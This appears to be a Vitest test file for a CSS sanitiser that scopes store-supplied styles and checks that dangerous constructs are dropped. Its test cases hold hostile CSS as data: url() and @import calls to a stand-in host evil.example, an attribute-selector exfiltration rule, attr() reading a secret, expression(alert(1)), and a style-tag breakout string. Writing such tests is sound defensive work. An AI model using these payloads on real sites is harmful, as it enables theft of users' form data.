import { describe, expect, it } from 'vitest';
import { sanitiseCss } from './sanitise-css';

const body = (css: string) =>
  sanitiseCss(css)
    .replace(/^@layer store\{@scope \(\.store-content\)\{/, '')
    .replace(/\}\}$/, '');

describe('sanitiseCss', () => {
  it('keeps ordinary rules, scoped to the store content in a cascade layer', () => {
    expect(sanitiseCss('.hero h1 { color: #0b6e35; font-weight: 800 }')).toBe(
      '@layer store{@scope (.store-content){.hero h1{color:#0b6e35;font-weight:800}}}',
    );
    expect(body('@media (min-width: 768px) { .a { margin: 0 auto } }')).toBe('@media (min-width:768px){.a{margin:0 auto}}');
  });

  it('is empty for empty input', () => {
    expect(sanitiseCss('   ')).toBe('');
  });

  it.each([
    ['@import', '@import url("https://evil.example/x.css"); .a{color:red}'],
    ['@import string', '@import "https://evil.example/x.css"; .a{color:red}'],
    ['@font-face', '@font-face { font-family: x; src: url(https://evil.example/f.woff) } .a{color:red}'],
    ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg); .a{color:red}'],
    ['@charset', '@charset "utf-8"; .a{color:red}'],
    ['@property', '@property --x { syntax: "<length>"; inherits: false; initial-value: 0px } .a{color:red}'],
  ])('drops %s', (_name, css) => {
    expect(body(css)).toBe('.a{color:red}');
  });

  it.each([
    ['url()', '.a{background:url(https://evil.example/?leak)}'],
    ['url() with quotes', '.a{background-image:url("https://evil.example")}'],
    ['image-set()', '.a{background:image-set("https://evil.example/a.png" 1x)}'],
    ['-webkit-image-set()', '.a{background:-webkit-image-set(url(x) 1x)}'],
    ['attr()', '.a::after{content:attr(data-secret)}'],
    ['image()', '.a{background:image("x.png")}'],
    ['cross-fade()', '.a{background:cross-fade(url(a) 50%, url(b))}'],
    ['element()', '.a{background:element(#secret)}'],
    ['expression()', '.a{width:expression(alert(1))}'],
    ['env()', '.a{padding:env(safe-area-inset-top)}'],
    ['an escaped url (\\75 rl)', '.a{background:\\75 rl(https://evil.example)}'],
    ['any backslash', '.a{font-family:"\\61"}'],
    ['a < in a value', '.a{content:"</style><script>"}'],
    ['behavior', '.a{behavior:something}'],
    ['-moz-binding', '.a{-moz-binding:something}'],
    ['attribute-selector exfiltration', 'input[value^="a"]{background:url(https://evil.example/a)}'],
  ])('drops a declaration with %s', (_name, css) => {
    expect(sanitiseCss(css)).not.toMatch(/url|image|attr|cross-fade|element\(|expression|env\(|\\|<|behavior|binding/i);
  });

  it('keeps the safe declarations next to a dropped one', () => {
    expect(body('.a{color:red;background:url(x);margin:0}')).toBe('.a{color:red;margin:0}');
  });

  it('survives garbage', () => {
    for (const css of ['}}}{{{', '.a{', '@media {', '/* unterminated', '\u0000\u2028', 'a'.repeat(10_000)]) {
      expect(() => sanitiseCss(css)).not.toThrow();
      expect(sanitiseCss(css)).not.toMatch(/url\(|<|\\/);
    }
  });
});
